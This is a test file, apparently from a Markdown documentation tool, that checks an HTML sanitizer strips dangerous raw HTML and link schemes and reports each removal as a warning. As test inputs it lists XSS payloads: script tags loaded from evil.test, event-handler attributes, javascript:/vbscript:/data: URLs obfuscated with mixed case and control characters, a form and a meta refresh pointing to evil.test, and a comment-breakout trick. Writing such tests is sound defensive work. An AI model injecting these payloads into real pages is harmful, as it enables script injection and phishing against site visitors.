import { describe, expect, test } from 'vitest';
import { sanitizeRawHtml, unsafeUrlScheme } from './sanitize-html.ts';
import { render } from './test-support.ts';

describe('raw HTML in .md pages', () => {
  test.each([
    ['<script>alert(1)</script>', '', '<script> element'],
    ['<SCRIPT SRC="https://evil.test/x.js"></SCRIPT>', '', '<script> element'],
    ['<img src="a.png" onerror="alert(1)">', '<img src="a.png">', 'onerror attribute of <img>'],
    ['<iframe src="https://evil.test"></iframe>', '', '<iframe> element'],
    ['<svg onload="alert(1)"><circle r="1"></circle></svg>', '', '<svg> element'],
    ['<a href="javascript:alert(1)">x</a>', '<a>x</a>', 'href attribute of <a>'],
    ['<a href="JaVaScRiPt:alert(1)">x</a>', '<a>x</a>', 'href attribute of <a>'],
    ['<a href="jav&#x09;ascript:alert(1)">x</a>', '<a>x</a>', 'href attribute of <a>'],
    ['<a href="vbscript:msgbox(1)">x</a>', '<a>x</a>', 'href attribute of <a>'],
    ['<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a>x</a>', 'href attribute of <a>'],
    ['<div style="position:fixed;inset:0">x</div>', '<div>x</div>', 'style attribute of <div>'],
    ['<form action="https://evil.test"><input name="pw"></form>', '<input name="pw" disabled type="checkbox">', '<form> element'],
    ['<object data="x.swf"></object><embed src="x.swf">', '', '<object> element'],
    ['<style>body{display:none}</style>', '', '<style> element'],
    ['<meta http-equiv="refresh" content="0;url=https://evil.test">', '', '<meta> element'],
  ])('%s', (input, output, removed) => {
    const result = sanitizeRawHtml(input);
    expect(result.html).toBe(output);
    expect(result.removed.map((r) => r.what)).toContain(removed);
  });

  test('keeps what docs use: details, kbd, images, video, tables, ids, classes', () => {
    const input =
      '<details open><summary>More</summary><kbd>Ctrl</kbd><img src="/a.png" alt="A" width="20" loading="lazy">' +
      '<video src="/v.mp4" controls muted></video><table><tr><td id="cell" class="x y">1</td></tr></table></details>';
    const result = sanitizeRawHtml(input);
    expect(result.removed).toEqual([]);
    expect(result.html).toBe(input.replace('<video src="/v.mp4" controls muted>', '<video src="/v.mp4" controls muted>'));
  });

  test('an end tag in another HTML node than its start tag is kept (split elements)', () => {
    expect(sanitizeRawHtml('</kbd>').html).toBe('</kbd>');
    expect(sanitizeRawHtml('</details>').html).toBe('</details>');
    expect(sanitizeRawHtml('</script>').html).toBe('');
  });

  test('the output is rebuilt from tokens: comments dropped, text escaped, nothing copied through', () => {
    expect(sanitizeRawHtml('<!-- note --><b>a &lt; b</b>').html).toBe('<b>a &#x3C; b</b>');
    expect(sanitizeRawHtml('<!--><img src=x onerror=alert(1)>-->').html).not.toMatch(/onerror/);
    // The quote stays escaped inside the attribute, so the rest never becomes a tag.
    expect(sanitizeRawHtml('<p title="a&quot;><script>alert(1)</script>">t</p>').html).toBe('<p title="a&#x22;><script>alert(1)</script>">t</p>');
  });

  test('in a page: the block is cleaned and each removal is a warning at its line and column', () => {
    const { html, diagnostics } = render('Text.\n\n<div>\n<script>alert(1)</script>\n<img src="a.png" onerror="x()">\n</div>\n');
    expect(html).not.toMatch(/script|onerror/);
    expect(html).toContain('<img src="a.png">');
    expect(diagnostics.map((d) => [d.code, d.severity, d.line, d.column])).toEqual([
      ['PD3020', 'warning', 4, 1],
      ['PD3020', 'warning', 5, 1],
    ]);
  });

  test('markdown links and images never carry javascript:, vbscript: or data:text/html', () => {
    const { html, diagnostics } = render(
      '[a](javascript:alert(1)) [b](  vbscript:x) [c](data:text/html;base64,PHNjcmlwdD4=) ![d](javascript:x) ![e](data:image/png;base64,AAAA)\n',
    );
    expect(html).not.toMatch(/javascript:|vbscript:|data:text/i);
    expect(html).toContain('src="data:image/png;base64,AAAA"');
    expect(diagnostics.map((d) => [d.code, d.column])).toEqual([
      ['PD3021', 1],
      ['PD3021', 26],
      ['PD3021', 44],
      ['PD3021', 84],
    ]);
  });

  test('unsafeUrlScheme looks past the characters browsers ignore', () => {
    expect(unsafeUrlScheme('java\nscript:alert(1)', 'link')).toBe('javascript');
    expect(unsafeUrlScheme('\u0001javascript:alert(1)', 'link')).toBe('javascript');
    expect(unsafeUrlScheme('data:image/svg+xml;base64,AAAA', 'image')).toBeUndefined();
    expect(unsafeUrlScheme('data:image/svg+xml;base64,AAAA', 'link')).toBe('data');
    expect(unsafeUrlScheme('https://example.org/javascript:x', 'link')).toBeUndefined();
    expect(unsafeUrlScheme('./javascript:x', 'link')).toBeUndefined();
  });
});
